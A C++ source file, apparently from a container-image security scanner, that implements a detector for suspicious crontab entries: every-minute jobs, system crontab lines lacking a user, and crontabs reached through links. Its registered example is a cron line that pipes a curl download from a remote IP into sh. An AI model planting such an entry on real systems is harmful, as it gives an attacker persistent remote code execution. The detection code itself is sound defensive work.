// Entries of crontabs: what runs again and again without anybody looking.
//
// collect() says for each entry that it is there (context), and more if its time or form is odd: every minute and
// from a place for temporary files or the network, or a system crontab's line without the user that it needs. image()
// raises an entry whose command another detector has something against: a fetch, a decoded text, a reverse shell.
#include <algorithm>
#include <array>

#include "detect/assess.hpp"
#include "detect/detector.hpp"
#include "detect/start/start_entries.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_most_bytes = std::size_t{1} << 20;
constexpr std::size_t k_most_shown = 200;

constexpr std::array<RuleRow, 1> k_rows{{
    {"P01", EvidenceClass::strong, model::Severity::high, 85, "Cron entry", "T1053.003",
     "Find out who put the entry there and what it runs."},
}};

bool is_crontab(StartFileKind kind) {
  return kind == StartFileKind::system_crontab || kind == StartFileKind::user_crontab ||
         kind == StartFileKind::anacrontab;
}

bool is_every_minute(std::string_view when) {
  std::string fields;
  for (const char c : when)
    if (c != '\t' && !(c == ' ' && fields.ends_with(' ')))
      fields += c;
    else if (c == '\t' && !fields.ends_with(' '))
      fields += ' ';
  // Also "*/2", "0-59", and the word for it that some crons know.
  return fields == "* * * * *" || fields == "*/1 * * * *" || fields == "*/2 * * * *" || fields == "0-59 * * * *" ||
         fields == "@minutely" || fields == "0-59/1 * * * *";
}

std::string_view line_at(std::string_view text, std::uint32_t number) {
  for (std::uint32_t line = 1; line < number && !text.empty(); ++line)
    text.remove_prefix(std::min(text.find('\n'), text.size() - 1) + 1);
  return text.substr(0, std::min(text.find('\n'), text.size()));
}

// A system crontab's entry whose command starts where the user should stand: cron refuses it.
bool lacks_user(std::string_view line, const StartCommand& entry) {
  const std::size_t when = line.find(entry.when);
  if (when == std::string_view::npos) return false;
  std::string_view rest = line.substr(when + entry.when.size());
  while (!rest.empty() && (rest.front() == ' ' || rest.front() == '\t')) rest.remove_prefix(1);
  const std::string_view command(entry.command);
  return !command.empty() && rest.substr(0, 16) == command.substr(0, 16);
}

class CronEntry final : public Detector {
 public:
  bool wants(const layers::FileInfo& file) const override {
    const auto kind = start_file_kind(file.path());
    return kind && is_crontab(*kind) && file.size() > 0 && file.size() <= k_most_bytes;
  }

  void collect(const layers::FileView& file, EvidenceSink& out) const override {
    const StartFileKind kind = *start_file_kind(file.path());
    const StartFile crontab = parse_start_file(kind, file.text());
    for (const StartCommand& entry : crontab.commands) {
      std::string text = entry.when + " " + entry.command.substr(0, k_most_shown);
      EvidenceClass cls = EvidenceClass::context;
      if (is_every_minute(entry.when) && is_odd_command(entry.command)) {
        cls = EvidenceClass::supporting;
        text += " (every minute)";
      }
      const std::string_view line = line_at(file.text(), entry.line);
      if (kind == StartFileKind::system_crontab && lacks_user(line, entry)) {
        cls = EvidenceClass::supporting;
        text += " (malformed: no user before the command, so cron refuses it)";
      }
      Evidence evidence = evidence_of(k_rows[0], std::move(text));
      evidence.cls = cls;
      evidence.line = entry.line;
      evidence.values = {{"when", entry.when}, {"command", entry.command}};
      out.add(std::move(evidence));
    }
  }

  void image(const ImageContext& context, ImageEvidence& out) const override {
    raise_entries(context, k_rows[0], out);
    // Entries of a file that only a link makes a crontab.
    for (const StartText& text : context.start.texts()) {
      if (text.file.layer == layers::k_none || start_file_kind(text.path) || !is_odd_command(text.text)) continue;
      if (!context.image.record_at(k_linked_system_section, text.path)) continue;
      // One that a command hands to a cron is no link, and its commands speak for themselves.
      const std::string_view link = text.chain.size() < 2 ? std::string_view() : text.chain[text.chain.size() - 2];
      if (!link.starts_with('/') || !start_file_kind(link.substr(1))) continue;
      PlacedEvidence placed;
      placed.path = text.path;
      placed.file = text.file;
      placed.reach = Reach::start;
      placed.chain = text.chain;
      placed.evidence =
          evidence_of(k_rows[0], "read as a crontab through a link: " + text.text.substr(0, k_most_shown));
      placed.evidence.line = text.line;
      out.add(std::move(placed));
    }
  }
};

const util::Registered<CronEntry> registered{{
    .id = "cron-entry",
    .version = 4,
    .summary = "entries of crontabs, and those whose command is suspect",
    .example = "* * * * * root curl -s http://192.0.2.1/x | sh",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
